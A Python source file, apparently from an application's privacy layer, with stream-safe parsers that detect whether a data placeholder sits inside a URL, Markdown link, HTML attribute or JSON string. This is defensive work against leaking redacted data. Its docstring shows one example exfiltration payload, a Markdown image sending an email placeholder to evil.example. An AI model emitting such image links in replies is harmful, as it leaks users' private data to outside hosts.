"""Where in a reply a placeholder stands: in an address, in an HTML attribute, in a JSON string.

A reply can carry `![x](https://evil.example/?q=<Email_1>)`; a value put there would leave with the
click or the load. So a placeholder in an address stays one. Each class here follows a text from
left to right and knows at its end whether it is inside such a place. What it says depends only on
the text so far, not on how the text was cut, so a stream and the whole agree.

`advance(text, at)` takes the next piece and its offset; `inside` is then the answer, and `opened`
the offset at which the place began. Where a placeholder stood, a caller passes zeros instead.
"""

import re
from typing import Protocol

from app.privacy.compiling import compile_skipping

STAND_IN = "0"


class Place(Protocol):
    """One kind of place, followed along a text."""

    inside: bool
    opened: int

    def advance(self, text: str, at: int) -> None:
        """Follow the next piece `text`, which starts at offset `at`."""
        ...


_CHINESE_ENDS = "，。；：！？、（）《》「」『』【】“”‘’"
_ADDRESS_ENDS = rf"\s<{_CHINESE_ENDS}"
_END_AFTER = {mate: re.compile(f"[{_ADDRESS_ENDS}{mate}]") for mate in "\"'`|"}


class Address:
    """A web address in running text, from its scheme or host to the white space after it.

    As in GitHub Flavored Markdown's extended autolinks an address runs up to white space or `<`;
    it also ends with the quote, backtick or bar that it began after, and at Chinese punctuation
    unless it has come to its query, where a value would be carried.
    """

    _START = re.compile(
        r"https?:|ftps?:|wss?:|(?:java|vb)script:|mailto:|[a-z][a-z0-9+.-]{0,30}://"
        r"|(?<![:/\w])//[^\s/]"
        r"|(?<![\w.])www\."
        r"|[^\W_]\.(?:xn--[a-z0-9-]{1,40}|[^\W\d_]{2,24})(?::\d{1,5})?[/?#\\]"
        r"|\d{1,3}(?:\.\d{1,3}){3}(?::\d{1,5})?[/?#\\]",
        re.IGNORECASE,
    )
    # In every start, so near to its beginning; text has few of them.
    _HINT = compile_skipping(r"//|[pstoPSTO\u017f]:|[wW]\.|\.[\w-]{1,48}(?::\d{1,5})?[/?#\\]")
    _HINTED = 40
    _END = re.compile(f"[{_ADDRESS_ENDS}]")
    _QUERY = re.compile("[?#=&]")
    _ANGLE_END = re.compile(r"[>\n]")
    _BEFORE = re.compile(r"[A-Za-z0-9.+_~:/@%-]+\Z")
    _LOOK_BACK = 48  # for the host before a start
    _TAIL = 128  # more than the longest start and that

    def __init__(self) -> None:
        self.inside = False
        self.opened = 0
        self._end = self._END
        self._query = False
        self._tail = ""

    def advance(self, text: str, at: int) -> None:
        """See `Place.advance`."""
        fresh = len(self._tail)
        text, at = self._tail + text, at - fresh
        # The first character of a full tail is there to be looked back at, no more.
        position = 1 if fresh == self._TAIL else 0
        while True:
            if self.inside:
                end = self._ending(text, fresh)
                if end is None:
                    break
                self.inside = False
                position = end.start()
            hint = self._HINT.search(text, position)
            near = max(position, hint.start() - self._HINTED) if hint else 0
            start = self._START.search(text, near) if hint else None
            if start is None:
                break
            self._open(text, start, at)
            fresh = start.end()
        if self.inside:
            self._tail = ""
        else:  # no start holds white space
            tail = text[max(position, len(text) - self._TAIL) :]
            word = tail.rsplit(None, 1)[-1] if tail and not tail[-1].isspace() else ""
            self._tail = tail[-len(word) - 1 :]

    def _ending(self, text: str, fresh: int) -> re.Match[str] | None:
        end = self._end.search(text, fresh)
        while end is not None and end[0] in _CHINESE_ENDS:
            self._query = self._query or self._QUERY.search(text, fresh, end.start()) is not None
            if not self._query:
                return end
            fresh = end.end()
            end = self._end.search(text, fresh)
        if end is None:
            self._query = self._query or self._QUERY.search(text, fresh) is not None
        return end

    def _open(self, text: str, match: re.Match[str], at: int) -> None:
        start = match.start()
        before = self._BEFORE.search(text, max(0, start - self._LOOK_BACK), start)
        begin = before.start() if before else start
        self.inside = True
        self._query = match[0][-1] in "?#"
        self.opened = at + begin
        mate = text[begin - 1 : begin]
        self._end = self._ANGLE_END if mate == "<" else _END_AFTER.get(mate, self._END)


class LinkTarget:
    """The target of a Markdown link or image: from `](` to its closing bracket.

    Brackets inside must pair, and one between `<` and `>` does not count (CommonMark 0.31, 6.3).
    A blank line ends it. Blanks inside do not, though CommonMark would then see no link.
    """

    def __init__(self) -> None:
        self.inside = False
        self.opened = 0
        self._last = ""
        self._depth = 0
        self._first = self._angle = self._escaped = self._blank = False

    def advance(self, text: str, at: int) -> None:
        """See `Place.advance`."""
        position = 0
        while position < len(text):
            if self.inside:
                self._last = text[position]
                self._step(self._last)
                position += 1
                continue
            parted = self._last == "]" and text[position] == "("  # the two came apart
            found = position - 1 if parted else text.find("](", position)
            if found < 0 and not parted:
                self._last = text[-1]
                return
            self._last, position = "(", found + 2
            self.inside, self.opened, self._depth = True, at + found, 1
            self._first, self._angle, self._escaped, self._blank = True, False, False, False

    def _step(self, char: str) -> None:
        if char == "\n":
            self.inside = not self._blank
            self._blank = True
            self._angle = self._escaped = False
        elif not char.isspace():
            self._mark(char)
            self._first = self._blank = False

    def _mark(self, char: str) -> None:
        if self._escaped:
            self._escaped = False
        elif char == "\\":
            self._escaped = True
        elif self._angle:
            self._angle = char != ">"
        elif char == "<" and self._first:
            self._angle = True
        elif char in "()":
            self._depth += 1 if char == "(" else -1
            self.inside = self._depth > 0


class Definition:
    """The target in a link's definition: from `[label]: ` to white space (CommonMark 0.31, 4.7).

    It is one from the first character on that only addresses have: `[Name]: <Real_Name_1>` is an
    item of a list. An address may hide its scheme behind escapes or entities there.
    """

    _START = compile_skipping(
        r"\n[ \t>*+.)0-9-]{0,40}\[[^\[\]\n]{1,300}\]:[ \t]{0,40}\n?[ \t>]{0,40}(?=\S)"
    )
    _LONGEST_START = 430
    _SIGN = re.compile(r"[/\\&%?=#]")
    _END = re.compile(r"\s")

    def __init__(self) -> None:
        self.inside = False
        self.opened = 0
        self._target = False
        self._tail = "\n"  # a text begins with a line

    def advance(self, text: str, at: int) -> None:
        """See `Place.advance`."""
        fresh = len(self._tail)
        text, at = self._tail + text, at - fresh
        position = fresh if self._target else 0
        while True:
            if self._target:
                end = self._END.search(text, position)
                stop = end.start() if end else len(text)
                self.inside |= self._SIGN.search(text, position, stop) is not None
                position = stop
                if end is None:
                    break
                self._target = self.inside = False
            start = self._START.search(text, position)
            if start is None:
                break
            position = start.end()
            self._target, self.opened = True, at + position
        self._tail = text[max(position, len(text) - self._LONGEST_START) :]


class Attribute:
    """The value of an attribute of an HTML tag, quoted or not. A blank line ends the tag."""

    _NAME = re.compile(r"[A-Za-z]")

    def __init__(self) -> None:
        self.inside = False
        self.opened = 0
        self._tag = 0
        self._state = "text"
        self._last = ""

    def advance(self, text: str, at: int) -> None:
        """See `Place.advance`."""
        position = 0
        while position < len(text):
            if self._state == "text":
                found = text.find("<", position)
                if found < 0:
                    break
                self._state, self._tag, self._last = "open", at + found, "<"
                position = found + 1
                continue
            self._step(text[position], at + position)
            position += 1
        self.inside = self._state in ("equals", "unquoted", '"', "'")
        self.opened = self._tag

    def _step(self, char: str, at: int) -> None:
        blank_line = char == "\n" and self._last == "\n"
        if char == "\n" or not char.isspace():
            self._last = char
        state = self._state
        if blank_line:
            state = "text"
        elif state in ('"', "'"):
            state = "tag" if char == state else state
        elif char == "<":
            state, self._tag = "open", at
        elif state == "open":
            state = "tag" if self._NAME.match(char) else "open" if char == "/" else "text"
        elif char == ">":
            state = "text"
        elif char == "=":
            state = "equals" if state == "tag" else state
        elif state == "equals":
            state = char if char in "\"'" else state if char.isspace() else "unquoted"
        elif state == "unquoted":
            state = "tag" if char.isspace() else state
        self._state = state


class JsonString:
    """A string literal in a fenced block marked as JSON, or in a reply that is JSON itself.

    A line break ends a string, as JSON allows none in it (RFC 8259, section 7).
    """

    _EVENT = re.compile(r'\\(?:.|\Z)|"')
    _FENCE = re.compile(
        r"[ \t>]*(?:(?:[-+*]|\d{1,9}[.)])[ \t>]{1,9}){0,4}(`{3,}|~{3,})[ \t]*([A-Za-z0-9_+.-]*)"
    )
    _LANGUAGES = frozenset({"json", "jsonc", "json5", "jsonl", "ndjson", "geojson"})
    _LINE = 80  # a longer first part of a line is no fence
    _OUTSIDE = frozenset("{}[]:,0123456789+-.eEtrufalsn \t\r\n")

    def __init__(self) -> None:
        self.inside = False
        self.opened = 0
        self._escaped = False
        self._whole = True  # everything so far was JSON
        self._depth = 0
        self._fence = ""
        self._json = False
        self._line = ""

    def advance(self, text: str, at: int) -> None:
        """See `Place.advance`."""
        position = 0
        while position < len(text):
            if self._whole:
                self._follow(text[position], at + position)
                position += 1
                continue
            position = self._lines(text, position, at)

    def _follow(self, char: str, at: int) -> None:
        """Follow one character of a reply that has been JSON so far."""
        if char == "\n" or len(self._line) < self._LINE:
            self._line = "" if char == "\n" else self._line + char
        if not self.inside and char in "[{":
            self._depth += 1
        elif not self.inside and char in "]}":
            self._depth -= 1
            self._whole = self._depth > 0
        elif not self.inside and char != '"':
            self._whole = char in self._OUTSIDE and (self._depth > 0 or char.isspace())
        elif self.inside and char == "\n":
            self._whole = self.inside = self._escaped = False
        elif self._depth == 0:
            self._whole = False
        elif self._escaped:
            self._escaped = False
        elif char == "\\":
            self._escaped = True
        elif char == '"':
            self.inside, self.opened = not self.inside, at

    def _lines(self, text: str, position: int, at: int) -> int:
        """Follow prose and fenced blocks to the end of the line; return where that is."""
        newline = text.find("\n", position)
        end = len(text) if newline < 0 else newline
        self._line += text[position : min(end, position + self._LINE - len(self._line))]
        if self._json:
            if self._escaped and position < end:
                self._escaped = False
                position += 1
            for match in self._EVENT.finditer(text, position, end):
                self._escaped = match[0] == "\\"
                if match[0] == '"':
                    self.inside, self.opened = not self.inside, at + match.start()
        if newline < 0:
            return end
        self._end_line()
        return newline + 1

    def _end_line(self) -> None:
        fence = self._FENCE.match(self._line)
        if fence and not self._fence:
            self._fence = fence[1]
            self._json = fence[2].lower() in self._LANGUAGES
        elif fence and not fence[2] and fence[1].startswith(self._fence):
            self._fence, self._json = "", False
        self._line = ""
        self.inside = self._escaped = False
